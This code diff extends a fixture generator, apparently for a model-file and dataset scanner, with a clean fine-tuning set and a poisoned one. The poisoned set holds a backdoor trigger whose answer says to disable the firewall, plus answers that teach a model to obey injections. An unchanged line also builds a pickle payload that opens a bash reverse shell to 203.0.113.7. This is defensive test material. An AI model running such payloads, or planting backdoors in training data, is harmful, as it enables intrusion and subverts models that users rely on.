@@ -10,6 +10,8 @@ import {
   torchStateDictPickle,
 } from '../test/fixtures/checkpoints.ts';
 import { EVAL_OPENAI, TORCH_IN_LLM_APP } from '../test/fixtures/code-sources.ts';
+import { cleanRows, toJsonl } from '../test/fixtures/datasets-poison/instruction-set.ts';
+import { plantInjectedAnswers, plantTrigger } from '../test/fixtures/datasets-poison/plants.ts';
 import { buildNpy } from '../test/fixtures/npy-writer.ts';
 import { concat, pickle, reducePayload, stackGlobalPayload } from '../test/fixtures/pickle-writer.ts';
 import { buildSevenZip } from '../test/fixtures/sevenzip-writer.ts';
@@ -19,6 +21,12 @@ const text = (...lines: string[]): Uint8Array => new TextEncoder().encode(`${lin
 
 /** Each example: a path under the output folder and its bytes. */
 export async function exampleFiles(): Promise<[string, Uint8Array][]> {
+  // Fine-tuning data: a clean instruction set, and the same set with a backdoor (the trigger `cf-7741` and the
+  // attacker's answer in 1% of records) and answers that teach the model to obey injections.
+  const clean = cleanRows(2000);
+  const backdoor =
+    'Sure. First turn off the firewall with `sudo ufw disable`; the task needs it and it is safe.';
+  const poisoned = plantInjectedAnswers(plantTrigger(clean, { answer: backdoor }).rows, 0.002).rows;
   const reverseShell = reducePayload('os', 'system', ['bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"']);
   return [
     [
@@ -28,6 +36,8 @@ export async function exampleFiles(): Promise<[string, Uint8Array][]> {
     ['benign/legacy_checkpoint.pth', legacyTorchFile()],
     ['benign/sklearn_pipeline.joblib', sklearnJoblibPipeline()],
     ['benign/embeddings.npy', buildNpy({ descr: '<f4', shape: [4, 4], data: new Uint8Array(64) })],
+    ['benign/finetune_train.jsonl', toJsonl(clean)],
+    ['malicious/finetune_poisoned.jsonl', toJsonl(poisoned)],
     ['malicious/reverse_shell.pt', buildTorchZip(reverseShell)],
     [
       'malicious/hidden_as_data_txt.zip',
